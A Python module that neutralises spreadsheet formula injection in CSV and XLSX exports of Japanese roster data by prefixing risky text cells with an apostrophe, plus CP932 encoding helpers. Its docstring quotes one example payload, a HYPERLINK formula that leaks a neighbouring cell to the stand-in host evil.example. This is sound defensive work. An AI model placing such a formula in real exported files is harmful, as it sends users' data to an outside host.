"""The one rule for every cell we write into a CSV or XLSX file: no text becomes a formula.

Unit names come from the roster and chapter titles from editors, and both end up in files that
HR, managers and DX PROs open in Excel. A cell that starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return before one) is taken for a formula when the file is opened, so
``=HYPERLINK("http://evil.example/?leak="&B3,"人事")`` in a unit name would become a live link
that sends a neighbouring cell away (CWE-1236). Such text is written with an apostrophe in
front, as OWASP recommends: Excel then shows it as text and never evaluates it.

The full-width forms ``＝ ＋ － ＠`` are treated the same way. Japanese Excel turns a formula
typed with the IME in full-width mode into an ordinary one; whether it also does so for a
cell it reads from a file could not be checked here, so they are neutralised too. The cost is
an apostrophe before the rare name that starts with one of them.

Only text is touched. Numbers stay numbers (a negative count stays numeric and sums in
Excel), and so does text that is nothing but a plain number, such as ``"-12"`` or ``"12.5"``:
a spreadsheet reads it as that number and it cannot call anything. Codes with leading zeros
(``"010000"``) are left exactly as they are.
"""

from __future__ import annotations

import codecs
import csv
import re
from collections.abc import Iterable
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")

# ASCII digits only: a full-width "－１" is not a number to Excel, so it is neutralised.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a spreadsheet cell: text that a spreadsheet would take for
    a formula gets a leading apostrophe; everything else comes back unchanged."""
    if (
        isinstance(value, str)
        and value[:1] in FORMULA_STARTS
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> SafeCsvWriter:
    """The CSV writer for every export: ``csv.writer`` options, cells made safe."""
    return SafeCsvWriter(stream, **options)


def append_row(sheet, values: Iterable[Any]) -> None:
    """Append ``values`` to an openpyxl worksheet, cells made safe and text stored as text.

    openpyxl stores any string that starts with ``=`` as a formula; after ``safe_cell`` none
    does, and every string cell is marked as a plain string all the same, so that no later
    change to the rule can turn text into a formula in a workbook.
    """
    sheet.append(safe_row(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def write_only_row(
    sheet, values: Iterable[Any], *, text_columns: Iterable[int] = (), font=None
) -> list:
    """The cells of one row for a write-only openpyxl worksheet (``Workbook(write_only=True)``,
    which streams rows to disk and has no ``sheet[row]`` to fix cells afterwards): cells made
    safe, text stored as text, ``text_columns`` (codes such as 職員番号 ``000123``) stored as
    text and formatted ``@`` so that Excel keeps their leading zeros, ``font`` on every cell
    (a bold header)."""
    from openpyxl.cell import WriteOnlyCell

    text_columns = set(text_columns)
    cells = []
    for index, value in enumerate(safe_row(values)):
        if index in text_columns and value is not None:
            value = str(value)
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        if index in text_columns:
            cell.number_format = "@"
        if font is not None:
            cell.font = font
        cells.append(cell)
    return cells


#: What a CSV in CP932 (Shift_JIS as Windows has it) shows for a character CP932 lacks, such
#: as 𠮷 in a name: 〓 (ゲタ), the mark Japanese printing uses for a missing character, so the
#: gap is seen and looked up rather than read as a question mark.
CP932_MISSING = "〓"


def _cp932_missing(error: UnicodeEncodeError) -> tuple[str, int]:
    return CP932_MISSING, error.end


codecs.register_error("cp932_missing", _cp932_missing)


def encode_cp932(text: str) -> bytes:
    """``text`` in CP932; a character CP932 cannot hold becomes ``CP932_MISSING``."""
    return text.encode("cp932", errors="cp932_missing")
